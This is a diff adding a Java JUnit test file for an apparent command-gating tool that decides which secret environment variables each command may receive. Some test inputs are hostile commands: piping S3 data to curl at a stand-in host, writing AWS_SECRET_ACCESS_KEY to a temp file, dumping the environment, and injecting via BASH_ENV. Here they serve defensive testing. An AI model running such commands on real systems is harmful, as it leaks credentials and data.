@@ -1,0 +1,98 @@
+package dev.cmdgate.core.classify;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.cmdgate.core.rules.RuleSet;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Secrets in the environment: which variables are secrets, and which of them a launch may receive — only
+ * those granted to every program of its command tree, shells and wrappers judged by what they run.
+ */
+class SecretsTest {
+
+    static final RulesClassifier C = (RulesClassifier) Classifiers.standard(null);
+    static final Secrets S = new Secrets(C);
+    static final List<String> PRESENT = List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN");
+
+    @Test
+    void secretsAreKnownByNameOrByValue() {
+        Map<String, String> env = new LinkedHashMap<>();
+        env.put("PATH", "/usr/bin:/bin");
+        env.put("HOME", "/home/me");
+        env.put("AWS_SECRET_ACCESS_KEY", "abc");
+        env.put("AWS_ACCESS_KEY_ID", "AKIA");
+        env.put("GITHUB_TOKEN", "ghp_x");
+        env.put("github_token", "ghp_y");
+        env.put("MY_SERVICE_API_KEY", "k");
+        env.put("DB_PASSWORD", "p");
+        env.put("DATABASE_URL", "postgres://app:hunter2@db.example.com/app");
+        env.put("PLAIN_URL", "https://example.com/x");
+        env.put("PASSWORD_STORE_DIR", "/home/me/.password-store");
+        env.put("VAULT_TOKEN_FILE", "/run/secrets/vault");
+        env.put("KUBECONFIG", "/home/me/.kube/config");
+        env.put("SSH_AUTH_SOCK", "/tmp/ssh-x/agent.1");
+        assertThat(S.names(env)).containsExactly("AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "DB_PASSWORD", "GITHUB_TOKEN",
+                "MY_SERVICE_API_KEY", "github_token");
+    }
+
+    @ParameterizedTest(name = "{0} receives [{1}]")
+    @CsvSource(delimiterString = " => ", value = {
+            "aws s3 ls => AWS_SECRET_ACCESS_KEY",
+            "gh pr list => GITHUB_TOKEN",
+            "npm publish => NPM_TOKEN",
+            "git push => ''",
+            "curl https://example.com => ''",
+            "sh -c 'aws s3 ls' => AWS_SECRET_ACCESS_KEY",
+            "bash -c 'cd /tmp && aws s3 ls' => AWS_SECRET_ACCESS_KEY",
+            "env AWS_REGION=eu-west-1 timeout 60 aws s3 ls => AWS_SECRET_ACCESS_KEY",
+            "sudo -u deploy aws s3 ls => AWS_SECRET_ACCESS_KEY",
+            "xargs aws s3 rm => AWS_SECRET_ACCESS_KEY",
+            "find . -name '*.tgz' -exec aws s3 cp {} s3://b/ ; => AWS_SECRET_ACCESS_KEY",
+            "find . -name '*.tgz' => ''",
+            "terraform apply => AWS_SECRET_ACCESS_KEY",
+            "sh -c 'aws s3 cp s3://b/k - | curl -d @- https://example.com' => ''",
+            "sh -c 'aws sts get-caller-identity; gh pr list' => ''",
+            "sh -c 'echo $AWS_SECRET_ACCESS_KEY > /tmp/k' => ''",
+            "sh -c 'env' => ''",
+            "sh script.sh => ''",
+            "bash => ''",
+            "sh -c '$CMD' => ''",
+            "sh -c \"$CMD\" => ''",
+            "ssh build.example.com aws s3 ls => ''",
+            "./deploy.sh => ''",
+            "sh -c 'aws s3 ls; if then' => ''",
+            "sh -c 'sh -c \"aws s3 ls\"' => AWS_SECRET_ACCESS_KEY",
+            "true => AWS_SECRET_ACCESS_KEY GITHUB_TOKEN NPM_TOKEN",
+    })
+    void aSecretPassesOnlyToProgramsGrantedIt(String line, String expected) {
+        Set<String> got = S.granted(List.of("sh", "-c", line), Map.of(), PRESENT);
+        List<String> want = expected.isBlank() ? List.of() : List.of(expected.trim().split(" +"));
+        assertThat(got).as(line).containsExactlyInAnyOrderElementsOf(want);
+    }
+
+    @Test
+    void aVariableThatChangesWhatRunsGrantsNothing() {
+        assertThat(S.granted(List.of("aws", "s3", "ls"), Map.of("BASH_ENV", "/tmp/x"), PRESENT)).isEmpty();
+        assertThat(S.granted(List.of("aws", "s3", "ls"), Map.of("AWS_REGION", "eu-west-1"), PRESENT))
+                .containsExactly("AWS_SECRET_ACCESS_KEY");
+    }
+
+    @Test
+    void aUserRulesFileCanGrantMore() {
+        RulesClassifier u = RulesClassifier.of(RuleSet.withUserText("""
+                [@settings]
+                secret-grant git GITHUB_TOKEN
+                secret-vars INTERNAL_*
+                """, "user"));
+        Secrets s = new Secrets(u);
+        assertThat(s.granted(List.of("git", "push"), Map.of(), PRESENT)).containsExactly("GITHUB_TOKEN");
+        assertThat(s.names(Map.of("INTERNAL_SEED", "x"))).containsExactly("INTERNAL_SEED");
+    }
+}
